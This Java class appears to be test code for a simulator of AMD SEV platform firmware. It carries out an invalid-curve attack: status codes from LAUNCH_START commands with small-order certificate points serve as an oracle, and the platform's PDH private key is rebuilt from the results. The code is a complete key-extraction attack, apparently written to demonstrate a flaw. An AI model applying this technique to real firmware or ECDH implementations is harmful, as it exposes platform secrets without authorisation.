package dev.sevsim.psp.flaw;

import dev.sevsim.abi.Bytes;
import dev.sevsim.abi.SecretBytes;
import dev.sevsim.abi.cert.EcPublicKey;
import dev.sevsim.abi.cert.KeyAlgorithm;
import dev.sevsim.abi.cert.KeyUsage;
import dev.sevsim.abi.cert.SevCertificate;
import dev.sevsim.abi.firmware.CommandId;
import dev.sevsim.abi.firmware.Decommission;
import dev.sevsim.abi.firmware.LaunchStart;
import dev.sevsim.abi.firmware.PdhCertExport;
import dev.sevsim.abi.firmware.SevStatus;
import dev.sevsim.abi.launch.TransportKeys;
import dev.sevsim.psp.TestMachine;
import java.math.BigInteger;
import java.util.List;

/**
 * A host that learns a platform's PDH private key from the statuses of its own commands.
 *
 * <p>A certificate with a point of small order l makes the shared secret one of about l/2 values. The host wraps keys of its
 * own under one of them; the status shows whether the guess was right, and the right one gives the key modulo l, up to its sign.
 * Points have order 3l: modulo 3 the sign is fixed once and for all. What is learnt for each l is put together with the Chinese
 * remainder theorem.
 */
final class InvalidCurveAttack {
    private static final int CURVE_BYTES = 48;
    private static final int POLICY = 0;
    private static final int CHAIN_SIZE = 3 * SevCertificate.SIZE;

    private final TestMachine machine;

    InvalidCurveAttack(TestMachine machine) {
        this.machine = machine;
    }

    /** The platform's PDH, as any host can read it. */
    EcPublicKey victimKey() {
        PdhCertExport export = new PdhCertExport(TestMachine.OUTPUT, SevCertificate.SIZE, TestMachine.DATA, CHAIN_SIZE);
        if (machine.run(CommandId.PDH_CERT_EXPORT, export.encode()) != SevStatus.SUCCESS) {
            throw new AssertionError("no PDH");
        }
        SevCertificate pdh = SevCertificate.CODEC.decode(machine.read(TestMachine.OUTPUT, SevCertificate.SIZE));
        return EcPublicKey.decode(pdh.publicKey());
    }

    /** The key or its negative, which has the same x coordinates. */
    BigInteger recoverPrivateKey(List<SmallOrderPoint> points) {
        SmallOrderPoint first = points.get(0);
        BigInteger modulus = BigInteger.valueOf(3);
        if (residue(first.times(first.order() / 3)) == 0) {
            throw new AssertionError("a key that 3 divides has no sign modulo 3: take another victim");
        }
        BigInteger scalar = BigInteger.ONE;
        for (SmallOrderPoint point : points) {
            int l = point.order() / 3;
            scalar = chineseRemainder(scalar, modulus, signedResidue(point), l);
            modulus = modulus.multiply(BigInteger.valueOf(l));
        }
        if (modulus.bitLength() <= 8 * CURVE_BYTES + 1) {
            throw new AssertionError("orders give " + modulus.bitLength() + " bits only");
        }
        // Either the key or its negative modulo the product; the key itself is short.
        BigInteger negative = modulus.subtract(scalar);
        return scalar.compareTo(negative) < 0 ? scalar : negative;
    }

    /** One *_START with a certificate on the point and keys wrapped under a guess of the shared secret. */
    SevStatus start(CommandId command, SmallOrderPoint point, BigInteger guess) {
        SevCertificate certificate = SevCertificate.unsigned(
                0,
                0,
                KeyUsage.PDH,
                KeyAlgorithm.ECDH_SHA256,
                EcPublicKey.ofP384(bigEndian(point.x()), bigEndian(point.y())).encode());
        machine.write(TestMachine.CERTIFICATE, certificate.encode());
        machine.write(
                TestMachine.SESSION,
                TransportKeys.zero()
                        .wrap(SecretBytes.of(bigEndian(guess)), Bytes.zeros(16), Bytes.zeros(16), Bytes.u32Le(POLICY))
                        .encode());
        LaunchStart start =
                new LaunchStart(0, POLICY, TestMachine.CERTIFICATE, SevCertificate.SIZE, TestMachine.SESSION, 0x80);
        SevStatus status = machine.run(command, start.encode());
        if (status == SevStatus.SUCCESS) {
            int handle =
                    LaunchStart.CODEC.decode(machine.buffer(LaunchStart.SIZE)).handle();
            machine.run(CommandId.DECOMMISSION, new Decommission(handle).encode());
        }
        return status;
    }

    /** The key modulo the point's order, or its negative: the smaller of the two. */
    private int residue(SmallOrderPoint point) {
        SmallOrderPoint multiple = point.times(0);
        for (int r = 0; r <= point.order() / 2; r++) {
            if (start(CommandId.LAUNCH_START, point, multiple.x()) == SevStatus.SUCCESS) {
                return r;
            }
            multiple = multiple.plus(point);
        }
        throw new AssertionError("no guess was right");
    }

    /** The residue modulo l with the sign that makes the key 1 modulo 3. */
    private int signedResidue(SmallOrderPoint point) {
        int l = point.order() / 3;
        int r = residue(point.times(3));
        int both = chineseRemainder(BigInteger.ONE, BigInteger.valueOf(3), r, l).intValueExact();
        boolean positive =
                start(CommandId.LAUNCH_START, point, point.times(both).x()) == SevStatus.SUCCESS;
        return positive ? r : l - r;
    }

    /** The number below modulus * l that is a modulo the one and r modulo the other. */
    private static BigInteger chineseRemainder(BigInteger a, BigInteger modulus, int r, int l) {
        BigInteger small = BigInteger.valueOf(l);
        BigInteger steps = BigInteger.valueOf(r)
                .subtract(a)
                .multiply(modulus.modInverse(small))
                .mod(small);
        return a.add(modulus.multiply(steps));
    }

    private static Bytes bigEndian(BigInteger value) {
        byte[] raw = new byte[CURVE_BYTES];
        byte[] digits = value.toByteArray();
        int skip = Math.max(0, digits.length - CURVE_BYTES);
        System.arraycopy(digits, skip, raw, CURVE_BYTES - digits.length + skip, digits.length - skip);
        return Bytes.copyOf(raw);
    }
}
